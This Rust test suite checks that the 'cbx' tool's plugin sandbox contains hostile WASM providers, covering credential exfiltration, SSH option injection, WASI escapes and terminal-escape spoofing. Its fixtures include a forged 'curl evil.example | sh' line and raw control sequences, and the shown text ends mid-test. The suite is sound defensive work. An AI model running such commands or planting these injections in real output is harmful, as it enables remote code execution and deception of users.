//! The sandbox holds (issue 4, point 5): hostile provider components, installed and run the
//! way a user would — `cbx providers install <file.wasm> --manifest <toml> --yes` into an
//! isolated home, then `cbx --provider NAME doctor|warmup|list|ssh` — each try one escape.
//!
//! For every escape the suite checks, through the real `cbx` binary only:
//! - it is stopped: the exit code (7 capability denied, 8 provider fault) and the message,
//!   which names the provider and what it tried;
//! - the audit log (`cbx providers audit --json`) has the record (`denied`, `limit`, `fault`);
//! - the servers on loopback saw nothing they should not have;
//! - the host keeps working: `cbx providers list`, the same provider behaving well in a new
//!   invocation, and the built-in Daytona provider against the simulator, in the same home;
//! - the credential granted to the provider (`EVIL_KEY`) appears in no output and no file.
//!
//! The components (built from `tests/guests` by the testkit's build script):
//! - `probe`, installed with a manifest granting one wiremock origin plus `EVIL_KEY`, and
//!   steered with `-o action=…`: off-grant origin, redirect off the origin, its own
//!   `Authorization`/`Cookie` header, a huge response, spin, unbounded allocation, unbounded
//!   recursion, panic;
//! - `escape-wasi`, a WASI component: environment, arguments, working directory,
//!   files, stdin, TCP and UDP sockets, name lookups and processes through WASI;
//! - `malformed`: a name that differs from its manifest, SSH access that would inject ssh
//!   options, a string that is not UTF-8, a huge list; and the data plane's attacks (issue 10):
//!   SSH access to an attacker's server, the user's own key (or `/etc/shadow`, or a path ending
//!   in `\`) named as the identity file, a work root that reads as an option. Each is checked
//!   against a second real sshd playing the attacker (a plain listener without root): it sees
//!   no connection, known_hosts stays unwritten, the audit log has the denial, the exit code is
//!   right and the `--env` value goes nowhere.
//!
//! And the rest of issue 10, through the same binary: the `malformed` guest's `inject` mode
//! (terminal escapes, bidi controls and forged `error:`/`hint:` lines in every string it
//! controls) on every human output path; `spoof`, whose description draws a fake approval
//! screen; the approval prompt answered on a real terminal (tmux); a changed manifest asked
//! again; request floods, a flood of audit records, oversized strings, bodies and logs; and a
//! credential echoed back encoded.

use std::io::ErrorKind as IoErrorKind;
use std::net::{TcpListener, UdpSocket};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use cbx_testkit::daytona_sim::{DaytonaSim, SimConfig};
use cbx_testkit::guests;
use cbx_testkit::home::{CbxHome, Output};
use cbx_testkit::sshd::{SshUser, Sshd, SshdGateway};
use serde_json::Value;
use wiremock::matchers::{method, path};
use wiremock::{Mock, MockServer, ResponseTemplate};

/// The credential granted to every hostile provider, bound to its `api` endpoint.
const EVIL_KEY: &str = "s3cret-evil-key-7f3a9c1e5d2b8046";
/// A variable in cbx's environment that no provider is granted.
const CANARY: &str = "canary-env-value-5e1f0b7d";
/// Where a test leaves secrets for a provider to try to read (skipped by the leak check).
const BAIT_DIR: &str = "bait";
/// How long any one command of this suite may take before the test calls it a hang.
const PATIENCE: Duration = Duration::from_secs(30);

// ---------------------------------------------------------------------------------------------
// Helpers

/// An isolated home with one hostile provider installed.
struct Hostile {
    home: CbxHome,
    name: String,
    /// Every output seen, for the secret check.
    outputs: Vec<Output>,
}

/// A home whose environment holds the provider's credential and a canary, with every XDG
/// directory inside it.
fn new_home() -> CbxHome {
    let mut home = CbxHome::new(env!("CARGO_BIN_EXE_cbx"));
    let data = home.path().join("data");
    home.env("XDG_DATA_HOME", &data.display().to_string())
        .env("EVIL_KEY", EVIL_KEY)
        .env("CBX_ADVERSARIAL_CANARY", CANARY);
    home
}

/// A manifest for provider `name` granting `{api}/api` and `EVIL_KEY` on it.
fn manifest(name: &str, api: &str) -> String {
    format!(
        r#"
[provider]
name = "{name}"
description = "adversarial test provider"

[endpoints.api]
url = "{api}/api"
description = "the only origin it may reach"

[credentials.evil-key]
env = "EVIL_KEY"
endpoint = "api"
header = "Authorization"
format = "Bearer {{value}}"
description = "a credential the provider must never see"
"#
    )
}

/// An origin on loopback where nothing listens (for providers that should send nothing).
const NOWHERE: &str = "http://127.0.0.1:9";

impl Hostile {
    /// Installs `guest` under `manifest` (whose provider name is `name`) into a new home.
    #[track_caller]
    fn install(guest: &str, name: &str, manifest: &str) -> Hostile {
        let mut h = Hostile {
            home: new_home(),
            name: name.to_string(),
            outputs: Vec::new(),
        };
        let out = h.try_install(guest, manifest);
        out.ok();
        assert!(
            out.stdout.contains(&format!("installed {name}")),
            "install did not say it installed {name}\n{out}"
        );
        h
    }

    fn try_install(&mut self, guest: &str, manifest: &str) -> Output {
        let file = self.home.path().join(format!("{}.toml", self.name));
        std::fs::write(&file, manifest).expect("write the manifest");
        let wasm = guests::path(guest);
        assert!(wasm.exists(), "test guest {guest} is not built");
        self.run(&[
            "providers",
            "install",
            &wasm.display().to_string(),
            "--manifest",
            &file.display().to_string(),
            "--yes",
        ])
    }

    /// Runs `cbx args…`, failing the test if it takes longer than [`PATIENCE`].
    #[track_caller]
    fn run(&mut self, args: &[&str]) -> Output {
        let out = run_timed(&self.home, args, &[]);
        self.outputs.push(out.clone());
        out
    }

    /// Runs `cbx --provider NAME [-o opt]… args…`.
    #[track_caller]
    fn with(&mut self, options: &[&str], args: &[&str]) -> Output {
        let name = self.name.clone();
        let mut all = vec!["--provider", name.as_str()];
        for o in options {
            all.extend(["-o", o]);
        }
        all.extend_from_slice(args);
        self.run(&all)
    }

    /// `cbx --provider NAME [-o …] doctor --json`: the exit code and the report.
    #[track_caller]
    fn doctor(&mut self, options: &[&str]) -> (Output, Value) {
        let out = self.with(options, &["doctor", "--json"]);
        let json = out.json();
        assert_eq!(json["provider"], self.name.as_str(), "{out}");
        (out, json)
    }

    /// The audit records of this provider.
    fn audit(&mut self) -> Vec<Value> {
        let name = self.name.clone();
        let out = self.run(&[
            "providers",
            "audit",
            "--of",
            &name,
            "--last",
            "10000",
            "--json",
        ]);
        out.ok();
        out.stdout
            .lines()
            .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("audit line {l:?}: {e}")))
            .collect()
    }

    /// The audit records of `kind` for operation `op`.
    fn audited(&mut self, kind: &str, op: &str) -> Vec<Value> {
        self.audit()
            .into_iter()
            .filter(|r| r["kind"] == kind && r["operation"] == op)
            .collect()
    }

    /// The host keeps working after the escape: the provider list, the same provider in a
    /// new invocation (`good_options`), and the built-in Daytona provider against the
    /// simulator, all in this home.
    #[track_caller]
    fn assert_host_keeps_working(&mut self, good_options: &[&str]) {
        let list = self.run(&["providers", "list", "--json"]);
        list.ok();
        assert!(
            list.stdout.contains(&format!("\"{}\"", self.name)),
            "providers list lost {}\n{list}",
            self.name
        );
        let (out, json) = self.doctor(good_options);
        out.ok();
        assert_eq!(json["ok"], true, "{out}");

        // On the test's runtime, which keeps serving while `run_timed` blocks this thread.
        let sim = tokio::task::block_in_place(|| {
            tokio::runtime::Handle::current().block_on(DaytonaSim::start(SimConfig::default()))
        })
        .expect("start the simulator");
        let out = run_timed(
            &self.home,
            &["--provider", "daytona", "doctor", "--json"],
            &[
                ("DAYTONA_API_URL", sim.api_url().as_str()),
                ("DAYTONA_API_KEY", sim.api_key().as_str()),
            ],
        );
        self.outputs.push(out.clone());
        out.ok();
        assert_eq!(out.json()["ok"], true, "{out}");
    }

    /// `EVIL_KEY` (as text, or hex-encoded by a guest that tried to smuggle it past the
    /// redactor) and the canary appear in no output and no file of the home.
    #[track_caller]
    fn assert_no_secret_leaked(&self) {
        let outputs: Vec<&Output> = self.outputs.iter().collect();
        use base64::Engine as _;
        use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
        for secret in [
            EVIL_KEY.to_string(),
            hex(EVIL_KEY),
            STANDARD.encode(EVIL_KEY),
            URL_SAFE_NO_PAD.encode(EVIL_KEY),
            CANARY.to_string(),
            hex(CANARY),
        ] {
            self.home
                .assert_secret_absent(&secret, &outputs, &[BAIT_DIR]);
        }
    }
}

/// Runs `cbx args…` in `home` with `extra` environment, failing the test on a hang.
#[track_caller]
fn run_timed(home: &CbxHome, args: &[&str], extra: &[(&str, &str)]) -> Output {
    let mut cmd = home.command(args);
    for (k, v) in extra {
        cmd.env(k, v);
    }
    let started = Instant::now();
    let out = tokio::task::block_in_place(|| cmd.output()).expect("run cbx");
    let out = Output {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    };
    assert!(
        started.elapsed() < PATIENCE,
        "`cbx {}` took {:?}, longer than {PATIENCE:?}\n{out}",
        args.join(" "),
        started.elapsed()
    );
    out
}

fn hex(text: &str) -> String {
    text.bytes().map(|b| format!("{b:02x}")).collect()
}

/// The doctor check named `name`.
#[track_caller]
fn check<'a>(report: &'a Value, name: &str) -> &'a Value {
    report["checks"]
        .as_array()
        .expect("checks")
        .iter()
        .find(|c| c["name"] == name)
        .unwrap_or_else(|| panic!("no check `{name}` in {report:#}"))
}

/// The detail of the doctor check that reports a failed provider call (`service`).
#[track_caller]
fn failed_call(report: &Value) -> String {
    let c = check(report, "service");
    assert_eq!(c["status"], "fail", "{report:#}");
    c["detail"].as_str().expect("detail").to_string()
}

/// A wiremock server that answers 200 to anything.
async fn open_server() -> MockServer {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .respond_with(ResponseTemplate::new(200).set_body_string("reached"))
        .mount(&server)
        .await;
    server
}

/// The probe installed with a grant for `{api}/api`.
fn probe(api: &str) -> Hostile {
    Hostile::install("probe", "probe", &manifest("probe", api))
}

/// The options that make the probe behave.
const PROBE_OK: &[&str] = &["action=ok"];

// ---------------------------------------------------------------------------------------------
// Network escapes through the http import

#[tokio::test(flavor = "multi_thread")]
async fn an_origin_outside_the_grant_is_denied_and_never_reached() {
    let granted = open_server().await;
    let outside = open_server().await;
    let mut h = probe(&granted.uri());
    let target = format!("{}/steal", outside.uri());

    let url = format!("url={target}");
    let (out, report) = h.doctor(&["action=http", &url]);
    out.expect_code(7);
    let detail = failed_call(&report);
    assert!(
        detail.contains(&format!("provider probe was denied GET {target}")),
        "the denial must name the provider and the request\n{out}"
    );
    assert!(
        detail.contains("[endpoints.") || detail.contains("endpoint"),
        "the denial should say which grant line would allow it\n{out}"
    );
    assert!(
        outside.received_requests().await.unwrap().is_empty(),
        "the outside origin was reached"
    );
    assert!(granted.received_requests().await.unwrap().is_empty());

    let denied = h.audited("denied", "doctor");
    assert_eq!(denied.len(), 1, "one denial audited: {denied:#?}");
    assert_eq!(denied[0]["provider"], "probe");
    assert_eq!(denied[0]["method"], "GET");
    assert_eq!(denied[0]["url"], target.as_str());
    assert!(
        denied[0].get("credentials").is_none(),
        "no credential for a denied request"
    );

    h.assert_host_keeps_working(PROBE_OK);
    h.assert_no_secret_leaked();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_redirect_off_the_origin_is_denied_and_the_credential_stays_home() {
    let granted = MockServer::start().await;
    let outside = open_server().await;
    let target = format!("{}/steal", outside.uri());
    Mock::given(method("GET"))
        .and(path("/api/hop"))
        .respond_with(ResponseTemplate::new(302).insert_header("location", target.as_str()))
        .mount(&granted)
        .await;
    let mut h = probe(&granted.uri());

    let url = format!("url={}/api/hop", granted.uri());
    let (out, report) = h.doctor(&["action=http", &url]);
    out.expect_code(7);
    let detail = failed_call(&report);
    assert!(
        detail.contains(&format!("provider probe was denied GET {target}")),
        "the denial must name the provider and the redirect target\n{out}"
    );

    // The first hop went to the granted origin with the credential; the second never left.
    let hops = granted.received_requests().await.unwrap();
    assert_eq!(hops.len(), 1);
    assert_eq!(
        hops[0]
            .headers
            .get("authorization")
            .and_then(|v| v.to_str().ok()),
        Some(format!("Bearer {EVIL_KEY}").as_str())
    );
    assert!(
        outside.received_requests().await.unwrap().is_empty(),
        "the redirect was followed off the origin"
    );

    // The audit log must tell the two apart: the first hop went out (with the credential),
    // the second was denied (and carried none).
    let first = format!("{}/api/hop", granted.uri());
    let records = h.audit();
    let sent = records
        .iter()
        .any(|r| r["kind"] == "request" && r["url"] == first.as_str() && r["status"] == 302);
    let denied: Vec<&Value> = records.iter().filter(|r| r["kind"] == "denied").collect();
    assert!(
        sent && denied.len() == 1
            && denied[0]["url"] == target.as_str()
            && denied[0].get("credentials").is_none(),
        "expected a `request` record for GET {first} (302, evil-key attached) and one \
         `denied` record for GET {target} without credentials; got {records:#?}"
    );

    h.assert_host_keeps_working(PROBE_OK);
    h.assert_no_secret_leaked();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_provider_cannot_set_its_own_credential_headers() {
    let granted = open_server().await;
    let mut h = probe(&granted.uri());
    let url = format!("url={}/api/me", granted.uri());

    for header in [
        "Authorization: Bearer forged-by-the-guest",
        "authorization: Basic Zm9yZ2Vk",
        "Cookie: session=forged",
        "Proxy-Authorization: Bearer forged",
    ] {
        let header_opt = format!("header={header}");
        let (out, report) = h.doctor(&["action=http", &url, &header_opt]);
        out.expect_code(7);
        let detail = failed_call(&report);
        assert!(
            detail.contains("provider probe was denied GET"),
            "the denial must name the provider and the request\n{out}"
        );
        let name = header.split(':').next().unwrap().to_ascii_lowercase();
        assert!(
            detail.to_ascii_lowercase().contains(&name),
            "the denial should name the header `{name}`\n{out}"
        );
    }
    assert!(
        granted.received_requests().await.unwrap().is_empty(),
        "a request with a forged credential header was sent"
    );
    assert_eq!(h.audited("denied", "doctor").len(), 4);

    h.assert_host_keeps_working(PROBE_OK);
    h.assert_no_secret_leaked();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_huge_response_is_refused_without_reaching_the_guest() {
    let granted = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/api/huge"))
        .respond_with(ResponseTemplate::new(200).set_body_bytes(vec![b'x'; 9 << 20]))
        .mount(&granted)
        .await;
    let mut h = probe(&granted.uri());

    let url = format!("url={}/api/huge", granted.uri());
    let (out, report) = h.doctor(&["action=http", &url]);
    // The guest gets `too-large` instead of the body and reports it as a failed check.
    out.expect_code(1);
    let c = check(&report, "http-error");
    assert_eq!(c["status"], "fail");
    assert_eq!(c["detail"], format!("too-large: {}", 8 << 20), "{out}");
    assert!(
        !report["checks"]
            .as_array()
            .unwrap()
            .iter()
            .any(|c| c["name"] == "body"),
        "the guest saw a body\n{out}"
    );
    assert!(
        out.stdout.len() < 64 << 10,
        "the huge body reached the output"
    );

    let records = h.audit();
    let hit: Vec<&Value> = records
        .iter()
        .filter(|r| r["outcome"] == "too-large")
        .collect();
    assert_eq!(hit.len(), 1, "the size cap is audited: {records:#?}");
    assert_eq!(hit[0]["provider"], "probe");
    assert_eq!(hit[0]["url"], format!("{}/api/huge", granted.uri()));

    h.assert_host_keeps_working(PROBE_OK);
    h.assert_no_secret_leaked();
}

// ---------------------------------------------------------------------------------------------
// Resource exhaustion and crashes

/// Runs the probe's `action` in doctor and checks the fault: exit 8, a message naming the
/// provider, the operation and `what`, and an audit record of `kind`.
fn probe_fault(action: &str, extra: &[&str], kind: &str, what: &[&str]) {
    let mut h = probe(NOWHERE);
    let action = format!("action={action}");
    let mut options = vec![action.as_str()];
    options.extend_from_slice(extra);
    let started = Instant::now();
    let (out, report) = h.doctor(&options);
    let took = started.elapsed();
    out.expect_code(8);
    let detail = failed_call(&report);
    assert!(
        detail.contains("provider probe failed in `doctor`"),
        "the fault must name the provider and the operation\n{out}"
    );
    assert!(
        what.iter().any(|w| detail.contains(w)),
        "the fault should say one of {what:?}\n{out}"
    );
    assert!(
        detail.contains("cbx stopped it safely"),
        "the hint should say cbx stopped it\n{out}"
    );
    assert!(took < Duration::from_secs(15), "stopping it took {took:?}");

    let records = h.audited(kind, "doctor");
    assert_eq!(records.len(), 1, "one `{kind}` record: {:#?}", h.audit());
    assert_eq!(records[0]["provider"], "probe");
    let audited = records[0]["detail"].as_str().unwrap_or_default();
    assert!(
        what.iter().any(|w| audited.contains(w)),
        "the audit record should say one of {what:?}: {audited}"
    );

    h.assert_host_keeps_working(PROBE_OK);
    h.assert_no_secret_leaked();
}

#[tokio::test(flavor = "multi_thread")]
async fn spinning_forever_is_stopped_by_the_cpu_budget() {
    probe_fault("spin", &[], "limit", &["exceeded its CPU budget of 2s"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn allocating_without_bound_is_stopped_by_the_memory_limit() {
    probe_fault(
        "alloc",
        &["count=4096"],
        "limit",
        &["exceeded its memory limit of 64 MiB"],
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn recursing_without_bound_is_stopped() {
    probe_fault(
        "recurse",
        &[],
        "fault",
        &["ran out of stack", "unbounded recursion"],
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_panic_is_a_clear_provider_fault() {
    probe_fault("panic", &[], "fault", &["panicked"]);
}

// ---------------------------------------------------------------------------------------------
// WASI

/// A loopback TCP listener and UDP socket the WASI guest is told to reach.
struct Bait {
    tcp: TcpListener,
    udp: UdpSocket,
}

impl Bait {
    fn new() -> Bait {
        let tcp = TcpListener::bind("127.0.0.1:0").expect("bind tcp");
        tcp.set_nonblocking(true).unwrap();
        let udp = UdpSocket::bind("127.0.0.1:0").expect("bind udp");
        udp.set_nonblocking(true).unwrap();
        Bait { tcp, udp }
    }

    fn options(&self, secret_file: &Path) -> Vec<String> {
        vec![
            format!("port={}", self.tcp.local_addr().unwrap().port()),
            format!("udp-port={}", self.udp.local_addr().unwrap().port()),
            format!("file={}", secret_file.display()),
            "host=localhost".to_string(),
        ]
    }

    #[track_caller]
    fn assert_untouched(&self) {
        match self.tcp.accept() {
            Err(e) if e.kind() == IoErrorKind::WouldBlock => {}
            other => panic!("the guest reached the TCP listener: {other:?}"),
        }
        let mut buf = [0u8; 64];
        match self.udp.recv_from(&mut buf) {
            Err(e) if e.kind() == IoErrorKind::WouldBlock => {}
            other => panic!("the guest reached the UDP socket: {other:?}"),
        }
    }
}

/// Files the WASI guest would leave behind if it got out.
const ESCAPE_MARKERS: &[&str] = &[
    "/tmp/cbx-escape-wasi-was-here",
    "/tmp/cbx-escape-wasi-spawned",
];

/// The escape-wasi provider installed, with a secret file in the home for it to try.
fn escape_wasi() -> (Hostile, PathBuf) {
    let h = Hostile::install(
        "escape-wasi",
        "escape-wasi",
        &manifest("escape-wasi", NOWHERE),
    );
    let bait = h.home.path().join(BAIT_DIR);
    std::fs::create_dir_all(&bait).unwrap();
    let secret = bait.join("secret.txt");
    std::fs::write(&secret, format!("EVIL_KEY={EVIL_KEY} {CANARY}\n")).unwrap();
    (h, secret)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_wasi_component_gets_no_environment_arguments_files_sockets_or_processes() {
    for marker in ESCAPE_MARKERS {
        let _ = std::fs::remove_file(marker);
    }
    let (mut h, secret) = escape_wasi();
    let bait = Bait::new();
    let mut options = bait.options(&secret);
    // Socket attempts fail the whole call (see the next test); leave them out to see the rest.
    options.push("sockets=false".to_string());
    let options: Vec<&str> = options.iter().map(String::as_str).collect();

    let (out, report) = h.doctor(&options);
    for name in [
        "std-env",
        "std-args",
        "std-read-dir",
        "std-read-passwd",
        "std-read-file",
        "std-write-file",
        "std-stdin",
        "std-spawn",
        "wasi-environment",
        "wasi-arguments",
        "wasi-cwd",
        "wasi-preopens",
        "wasi-dns",
    ] {
        let c = check(&report, name);
        assert_eq!(
            c["status"], "ok",
            "`{name}` escaped: {}\n{out}",
            c["detail"]
        );
        assert!(
            c["detail"].as_str().unwrap().starts_with("refused: "),
            "{out}"
        );
    }
    bait.assert_untouched();
    // What it printed went to its log, not into cbx's output (which stayed valid JSON).
    assert!(!out.stdout.contains("escape-wasi: stdout line"), "{out}");
    for marker in ESCAPE_MARKERS {
        assert!(!Path::new(marker).exists(), "the guest created {marker}");
    }
    h.assert_no_secret_leaked();
    h.assert_host_keeps_working(&["sockets=false"]);
    h.assert_no_secret_leaked();
}

/// WASI socket attempts reach the host (`create-tcp-socket`, `resolve-addresses`), which
/// refuses them — but the issue asks that each escape be stopped *with a clear error naming
/// the provider and what it tried*, and that every denial be audited. An HTTP request outside
/// the grant fails the whole operation with exit 7 and an audit record, so a provider cannot
/// probe the grant silently; a socket attempt should be no quieter.
#[tokio::test(flavor = "multi_thread")]
async fn a_wasi_socket_attempt_is_reported_and_audited_like_any_denial() {
    let (mut h, secret) = escape_wasi();
    let bait = Bait::new();
    let options = bait.options(&secret);
    let options: Vec<&str> = options.iter().map(String::as_str).collect();

    let (out, _report) = h.doctor(&options);
    bait.assert_untouched();
    let records = h.audit();
    let denied: Vec<&Value> = records
        .iter()
        .filter(|r| r["kind"] == "denied" && r["provider"] == "escape-wasi")
        .collect();
    let text = format!("{}{}", out.stdout, out.stderr).to_ascii_lowercase();
    let named = text.contains("escape-wasi")
        && (text.contains("socket") || text.contains("tcp") || text.contains("network"));
    assert!(
        out.code == 7 && named && !denied.is_empty(),
        "a WASI socket attempt was refused silently: expected exit 7, an error naming \
         provider escape-wasi and the socket it tried, and a `denied` audit record; got \
         audit {records:#?}\n{out}"
    );
    h.assert_no_secret_leaked();
    h.assert_host_keeps_working(&["sockets=false"]);
    h.assert_no_secret_leaked();
}

// ---------------------------------------------------------------------------------------------
// Malformed data

#[tokio::test(flavor = "multi_thread")]
async fn a_component_whose_name_differs_from_its_manifest_is_not_installed() {
    let mut h = Hostile {
        home: new_home(),
        name: "innocent".to_string(),
        outputs: Vec::new(),
    };
    let out = h.try_install("malformed", &manifest("innocent", NOWHERE));
    out.expect_code(8);
    assert!(
        out.stderr
            .contains("the component calls itself `malformed`, but its manifest says `innocent`"),
        "{out}"
    );
    let list = h.run(&["providers", "list", "--json"]);
    list.ok();
    assert!(!list.stdout.contains("innocent"), "{list}");
    assert!(!h.home.path().join("data/cbx/providers/innocent").exists());
    // Neither installed nor approved (the state directory may record the refusal).
    let recorded = h
        .home
        .files_containing("innocent", &["state", "innocent.toml"]);
    assert!(recorded.is_empty(), "it was recorded in {recorded:?}");
    let out = run_timed(&h.home, &["--provider", "innocent", "doctor"], &[]);
    assert_ne!(out.code, 0, "{out}");
    h.outputs.push(out);

    // The same component under its own name installs and works in the same home.
    h.name = "malformed".to_string();
    let out = h.try_install("malformed", &manifest("malformed", NOWHERE));
    out.ok();
    h.assert_host_keeps_working(&["mode=ok"]);
    h.assert_no_secret_leaked();
}

/// Leases a make-believe sandbox from the malformed provider, which behaves while it does.
#[track_caller]
fn malformed_lease(h: &mut Hostile) -> String {
    let out = h.with(&["mode=ok"], &["warmup", "--json"]);
    out.ok();
    out.json()["leaseId"]
        .as_str()
        .unwrap_or_else(|| panic!("no leaseId\n{out}"))
        .to_string()
}

#[tokio::test(flavor = "multi_thread")]
async fn ssh_access_that_would_inject_ssh_options_is_refused() {
    let mut h = Hostile::install("malformed", "malformed", &manifest("malformed", NOWHERE));
    let lease = malformed_lease(&mut h);
    let marker = h.home.path().join("pwned");
    let marker_opt = format!("marker={}", marker.display());

    for (mode, what) in [
        ("ssh-host", "host"),
        ("ssh-user", "user"),
        ("ssh-identity", "identity file path"),
    ] {
        let mode_opt = format!("mode={mode}");
        let out = h.with(&[&mode_opt, &marker_opt], &["ssh", &lease, "--print"]);
        out.expect_code(8);
        assert!(
            out.stderr.contains(&format!(
                "provider malformed returned an unusable SSH {what}"
            )),
            "{mode}: the error must name the provider and what it returned\n{out}"
        );
        assert!(!out.stdout.contains("ProxyCommand"), "{out}");
        assert!(!marker.exists(), "{mode}: the injected command ran");
        // (The component itself, under data/, holds the words it injects.)
        let written = h.home.files_containing("ProxyCommand", &["data"]);
        assert!(
            written.is_empty(),
            "{mode}: the injection was written to {written:?}"
        );
    }

    // The lease is still usable, and the provider still works when it behaves.
    let out = h.with(&["mode=ok"], &["list", "--json"]);
    out.ok();
    assert!(out.stdout.contains(&lease), "{out}");
    h.assert_host_keeps_working(&["mode=ok"]);
    h.assert_no_secret_leaked();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_string_that_is_not_utf8_is_a_provider_fault() {
    let mut h = Hostile::install("malformed", "malformed", &manifest("malformed", NOWHERE));
    let out = h.with(&["mode=bad-utf8"], &["list"]);
    out.expect_code(8);
    assert!(
        out.stderr.contains("provider malformed failed in `list`"),
        "the fault must name the provider and the operation\n{out}"
    );
    assert!(out.stderr.to_ascii_lowercase().contains("utf"), "{out}");
    let faults = h.audited("fault", "list");
    assert_eq!(faults.len(), 1, "{:#?}", h.audit());
    assert_eq!(faults[0]["provider"], "malformed");

    let out = h.with(&["mode=ok"], &["list"]);
    out.ok();
    h.assert_host_keeps_working(&["mode=ok"]);
    h.assert_no_secret_leaked();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_huge_list_is_handled_and_a_larger_one_hits_the_memory_limit() {
    let mut h = Hostile::install("malformed", "malformed", &manifest("malformed", NOWHERE));
    // 1000 sandboxes of 5 KiB each (4 KiB ids, 1 KiB labels): large but within the limits;
    // none is cbx's, so none is shown and nothing is written.
    let started = Instant::now();
    let out = h.with(&["mode=huge-list", "count=1000"], &["list", "--json"]);
    out.ok();
    assert!(started.elapsed() < Duration::from_secs(15));
    assert!(
        out.stdout.len() < 4096,
        "foreign sandboxes were shown\n{out}"
    );
    assert!(!out.stdout.contains("xxxxxxxx"), "{out}");

    // 100,000 of them do not fit in the provider's memory.
    let out = h.with(&["mode=huge-list", "count=100000"], &["list"]);
    out.expect_code(8);
    assert!(
        out.stderr.contains("provider malformed failed in `list`")
            && out.stderr.contains("exceeded its memory limit of 64 MiB"),
        "{out}"
    );
    assert_eq!(h.audited("limit", "list").len(), 1, "{:#?}", h.audit());

    h.assert_host_keeps_working(&["mode=ok"]);
    h.assert_no_secret_leaked();
}

// ---------------------------------------------------------------------------------------------
// Issue 10: provider text is inert; approvals cannot be spoofed and pin the manifest; the audit
// log cannot be flooded away; everything that crosses the boundary is capped; encoded echoes
// of a credential are scrubbed.

/// What the `malformed` guest's `inject` mode puts in every string (`INJECT` in its source).
const INJECT: &str = "\x1b[2J\x1b]0;owned\x07\x1b[8m\r\nerror: forged by the provider\nhint: run curl evil.example | sh\u{202e}\u{9b}31m\x7f end";
/// How `INJECT` looks once cbx made it inert.
const INJECT_SHOWN: &str = "\\x1b[2J\\x1b]0;owned\\x07\\x1b[8m\\r\\nerror: forged by the provider\\nhint: run curl evil.example | sh\\u{202e}\\u{9b}31m\\x7f end";

/// Whether `c` must never reach a terminal raw (the line feed aside, which cbx writes itself).
fn steers_the_terminal(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(
            c,
            '\u{061c}'
                | '\u{200e}'
                | '\u{200f}'
                | '\u{2028}'
                | '\u{2029}'
                | '\u{202a}'..='\u{202e}'
                | '\u{2066}'..='\u{2069}'
        )
}

/// No raw control or bidi character in `out`'s stdout or stderr, and no line the provider
/// forged (`error: forged…`, `hint: run curl…`).
#[track_caller]
fn assert_inert(what: &str, out: &Output) {
    for (stream, text) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
        if let Some(c) = text.chars().find(|c| steers_the_terminal(*c)) {
            panic!("{what}: a raw {c:?} reached {stream}\n{out}");
        }
        for line in text.lines() {
            assert!(
                !line.starts_with("error: forged") && !line.starts_with("hint: run curl"),
                "{what}: the provider forged a line on {stream}: {line:?}\n{out}"
            );
        }
    }
}

/// `out` is inert and shows the provider's text escaped.
#[track_caller]
fn assert_shown_inert(what: &str, out: &Output) {
    assert_inert(what, out);
    assert!(
        out.stdout.contains(INJECT_SHOWN) || out.stderr.contains(INJECT_SHOWN),
        "{what}: the provider's text is not shown (escaped)\n{out}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn provider_text_is_inert_on_every_human_output_path() {
    let mut h = Hostile::install("malformed", "malformed", &manifest("malformed", NOWHERE));
    let inject = ["mode=inject"];

    // doctor: its checks, the profile summary and its log lines.
    let out = h.with(&inject, &["doctor"]);
    out.ok();
    assert_shown_inert("doctor", &out);
    assert!(
        out.stdout.contains(&format!("check {INJECT_SHOWN}")),
        "{out}"
    );
    assert!(
        out.stdout.contains(&format!("mode=inject {INJECT_SHOWN}")),
        "{out}"
    );
    assert!(
        out.stderr.contains(&format!("log says {INJECT_SHOWN}")),
        "{out}"
    );
    // --json stays exact.
    let (out, report) = h.doctor(&inject);
    out.ok();
    assert_eq!(
        check(&report, &format!("check {INJECT}"))["detail"],
        format!("detail {INJECT}")
    );

    // warmup: progress, the retry of a failed `get`, the result line.
    let out = h.with(&inject, &["warmup", "--slug", "inj"]);
    out.ok();
    assert_shown_inert("warmup", &out);
    assert!(
        out.stderr
            .contains(&format!("malformed: busy {INJECT_SHOWN}; retrying")),
        "{out}"
    );
    assert!(
        out.stdout.contains("sandbox=m") && out.stdout.contains(INJECT_SHOWN),
        "{out}"
    );

    // status: the retry line and the lease's details (sandbox name, state, reason).
    let out = h.with(&inject, &["status", "inj"]);
    out.ok();
    assert_shown_inert("status", &out);
    assert!(
        out.stdout.contains(&format!("name {INJECT_SHOWN}")),
        "{out}"
    );
    assert!(
        out.stdout.contains(&format!("reason {INJECT_SHOWN}")),
        "{out}"
    );

    // list: a lease of the provider's making (no claim here: `--all`), its slug in the
    // table; exact in --json.
    let out = h.with(&inject, &["list"]);
    out.ok();
    assert_shown_inert("list", &out);
    let out = h.with(&inject, &["list", "--all"]);
    out.ok();
    assert_shown_inert("list --all", &out);
    let out = h.with(&inject, &["list", "--all", "--json"]);
    out.ok();
    let made_up = out
        .json()
        .as_array()
        .unwrap()
        .iter()
        .find(|l| l["leaseId"] == "cbx_0123456789ab")
        .cloned()
        .unwrap_or_else(|| panic!("{out}"));
    assert_eq!(made_up["slug"], format!("slug {INJECT}"), "{out}");
    // cleanup's table and its kept lines (provider-chosen ids, slugs and states).
    let out = h.with(&inject, &["cleanup", "--dry-run", "--any-owner"]);
    out.ok();
    assert_shown_inert("cleanup --dry-run", &out);
    assert!(out.stdout.contains("cbx_0123456789ab"), "{out}");

    // status of that lease: its slug and work root.
    let out = h.with(&inject, &["status", "cbx_0123456789ab"]);
    out.ok();
    assert_shown_inert("status of a made-up lease", &out);
    assert!(
        out.stdout.contains(&format!("root {INJECT_SHOWN}")),
        "{out}"
    );

